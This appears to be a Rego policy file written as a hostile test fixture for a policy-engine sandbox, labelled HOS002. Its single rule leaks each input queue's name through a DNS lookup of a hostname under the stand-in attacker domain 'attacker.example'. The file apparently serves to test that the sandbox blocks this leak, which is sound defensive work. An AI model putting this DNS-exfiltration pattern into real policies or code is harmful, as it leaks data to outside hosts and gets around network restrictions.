# METADATA
# title: hostile-HOS002
# description: Resolves a name derived from the input (DNS exfiltration).
# custom:
#   id: HOS002
#   severity: error
#   summary: hostile policy for the sandbox tests
package hostile.network_lookup

violation contains v if {
	some q in input.queues
	got := net.lookup_ip_addr(concat(".", [q.name, "attacker.example"]))
	v := {"ref": q.ref, "message": sprintf("%v", [got])}
}
